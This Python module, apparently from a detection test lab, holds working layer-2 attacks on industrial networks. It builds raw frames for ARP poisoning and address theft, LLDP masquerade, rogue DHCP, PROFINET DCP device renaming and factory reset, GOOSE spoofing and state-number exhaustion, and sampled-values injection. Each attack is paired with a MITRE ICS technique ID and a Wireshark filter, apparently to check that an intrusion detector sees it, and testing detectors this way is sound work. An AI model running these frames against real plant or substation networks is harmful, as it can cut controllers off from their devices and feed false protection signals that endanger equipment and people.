"""Attacks below IP: ARP (RFC 826), LLDP (802.1AB), PROFINET DCP, GOOSE and sampled values."""

from __future__ import annotations

import socket
import struct
from collections.abc import Iterator
from datetime import UTC, datetime

from tests.lab.attacks import wire
from tests.lab.attacks.attack import OUTSIDER, Aim, Attack

_EVERYBODY = b"\xff" * 6
_ASKS, _ANSWERS = 1, 2
_DCP, _DCP_ALL = b"\x88\x92", bytes.fromhex("010ecf000000")


def _arp(aim: Aim, kind: int, to: bytes, sender: str, target: str) -> bytes:
    mine = wire.octets(aim.source.mac)
    head = to + mine + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, kind)
    theirs = bytes(6) if kind == _ASKS else to
    return head + mine + socket.inet_aton(sender) + theirs + socket.inet_aton(target)


def _appear(aim: Aim) -> None:
    frame = _arp(aim, _ASKS, _EVERYBODY, aim.source.ip, aim.source.ip)
    wire.ethernet([frame, frame], 0.5)


def _sweep(aim: Aim) -> None:
    network = aim.plant.zones[aim.target.zone].network
    asked = (str(address) for address in network.hosts())
    wire.ethernet((_arp(aim, _ASKS, _EVERYBODY, aim.source.ip, a) for a in asked), 0.005)


def _poison(aim: Aim) -> None:
    gateway = aim.plant.zones[aim.target.zone].gateway
    lie = _arp(aim, _ANSWERS, wire.octets(aim.target.mac), gateway, aim.address)
    wire.ethernet([lie] * 4, 0.5)
    router = next(c for c in aim.plant.router().interfaces if c.zone == aim.target.zone)
    truth = _arp(aim, _ANSWERS, wire.octets(aim.target.mac), gateway, aim.address)
    mine, theirs = wire.octets(aim.source.mac), wire.octets(router.mac)
    wire.ethernet([truth[:22] + truth[22:28].replace(mine, theirs) + truth[28:]] * 2)


def _take(aim: Aim) -> None:
    frame = _arp(aim, _ANSWERS, _EVERYBODY, aim.address, aim.address)
    wire.ethernet([frame] * 3, 0.3)


def _lldp(aim: Aim) -> None:
    name = aim.plant.router().name.encode()
    parts = ((1, b"\x04" + wire.octets(aim.source.mac)), (2, b"\x05eth9"), (3, b"\x00\x78"))
    values = b"".join(struct.pack(">H", t << 9 | len(v)) + v for t, v in (*parts, (5, name)))
    head = bytes.fromhex("0180c200000e") + wire.octets(aim.source.mac) + b"\x88\xcc"
    wire.ethernet([head + values + bytes(2)] * 2, 0.3)


def _dhcp(aim: Aim) -> None:
    """An offer that nobody asked for, with the liar as router and name server (RFC 2131)."""
    me = socket.inet_aton(aim.source.ip)
    options = b"\x63\x82\x53\x63\x35\x01\x02\x36\x04" + me + b"\x03\x04" + me + b"\x06\x04" + me
    head = struct.pack(">BBBBIHH4s", 2, 1, 6, 0, 0x51474C31, 0, 0x8000, bytes(4))
    message = head + me + me + bytes(4) + b"\x02" * 6 + bytes(202) + options + b"\xff"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        opened.bind((aim.source.ip, 67))
        for _ in range(2):
            opened.sendto(message, ("255.255.255.255", 68))


def _dcp(aim: Aim, service: int, block: bytes, to: bytes | None = None) -> bytes:
    kind = b"\xfe\xfe" if service == 5 else b"\xfe\xfd"
    body = kind + struct.pack(">BBIHH", service, 0, 0x5347, 1, len(block)) + block
    return (to or wire.octets(aim.target.mac)) + wire.octets(aim.source.mac) + _DCP + body


def _identify(aim: Aim) -> None:
    wire.ethernet([_dcp(aim, 5, b"\xff\xff\x00\x00", _DCP_ALL)] * 2, 0.3)


def _rename(aim: Aim) -> None:
    name = b"not-yours"
    block = struct.pack(">BBHH", 2, 2, len(name) + 2, 1) + name + b"\0"
    wire.ethernet([_dcp(aim, 4, block)], 0.3)


def _reset(aim: Aim) -> None:
    wire.ethernet([_dcp(aim, 4, struct.pack(">BBHH", 5, 6, 2, 0x0002))], 0.3)


def _goose(aim: Aim) -> None:
    from tests.lab.stacks import goose

    def frames() -> Iterator[bytes]:
        for number in range(4):
            yield goose.frame(aim.target, aim.service, 5000, number, datetime.now(UTC))

    wire.ethernet(frames())


def _silence(aim: Aim) -> None:
    from tests.lab.stacks import goose

    last = goose.frame(aim.target, aim.service, 0xFFFFFFFF, 0, datetime.now(UTC))
    wire.ethernet([last])


def _samples(aim: Aim) -> None:
    from tests.lab.stacks import sv

    wire.ethernet(sv.frame(aim.target, aim.service, count) for count in range(3900, 3910))


_DCP_SET = "pn_dcp.service_id == 4 && eth.src == {mac} && eth.dst == {theirs}"
ATTACKS = (
    Attack(
        "new device",
        "A station that nobody knows announces its address",
        "",
        ("T0864",),
        "new asset",
        "arp.isgratuitous == 1 && eth.src == {mac}",
        _appear,
        (OUTSIDER,),
    ),
    Attack(
        "arp sweep",
        "Asks by ARP for every address of a zone",
        "",
        ("T0846",),
        "scan",
        "arp.opcode == 1 && eth.src == {mac} && arp.dst.proto_ipv4 != {source}",
        _sweep,
        (OUTSIDER,),
    ),
    Attack(
        "arp poisoning",
        "Tells a station that it is the router",
        "",
        ("T0830",),
        "identity conflict",
        "arp.opcode == 2 && eth.src == {mac} && eth.dst == {theirs}",
        _poison,
        (OUTSIDER,),
    ),
    Attack(
        "address taken",
        "Claims another station's address",
        "",
        ("T0849",),
        "identity conflict",
        "arp.opcode == 2 && eth.src == {mac} && arp.src.proto_ipv4 == {target}",
        _take,
        (OUTSIDER,),
    ),
    Attack(
        "lldp masquerade",
        "Calls itself by the router's name",
        "lldp",
        ("T0849",),
        "identity conflict",
        "lldp && eth.src == {mac}",
        _lldp,
        (OUTSIDER,),
        crafted=True,
    ),
    Attack(
        "rogue dhcp",
        "Offers addresses with itself as router and name server",
        "",
        ("T0830",),
        "new operation",
        "dhcp.option.dhcp == 2 && ip.src == {source}",
        _dhcp,
        (OUTSIDER,),
        crafted=True,
    ),
    Attack(
        "dcp identify",
        "Asks all PROFINET devices who they are",
        "profinet-dcp",
        ("T0846",),
        "new operation",
        "pn_dcp.service_id == 5 && eth.src == {mac}",
        _identify,
        (OUTSIDER,),
    ),
    Attack(
        "dcp rename",
        "Gives a device another name: its controller loses it",
        "profinet-dcp",
        ("T0836", "T0814"),
        "engineering operation",
        _DCP_SET + " && frame contains 6e:6f:74:2d:79:6f:75:72:73",
        _rename,
    ),
    Attack(
        "dcp factory reset",
        "Resets a device to its maker's state",
        "profinet-dcp",
        ("T0809",),
        "engineering operation",
        _DCP_SET + " && pn_dcp.suboption_control == 6",
        _reset,
    ),
    Attack(
        "goose spoof",
        "Publishes as another device, with a state far ahead",
        "goose",
        ("T0856",),
        "state",
        "goose.stNum == 5000",
        _goose,
        (OUTSIDER,),
        crafted=True,
    ),
    Attack(
        "goose silenced",
        "Publishes the last state number that there is: what follows is old",
        "goose",
        ("T0804",),
        "state",
        "goose.stNum == 4294967295 || goose.stNum == -1",
        _silence,
        (OUTSIDER,),
        crafted=True,
    ),
    Attack(
        "sampled values injected",
        "Sends samples beside a merging unit's own",
        "sv",
        ("T0856",),
        "state",
        "sv.smpCnt >= 3900 && sv.smpCnt < 3910",
        _samples,
        (OUTSIDER,),
        crafted=True,
    ),
)
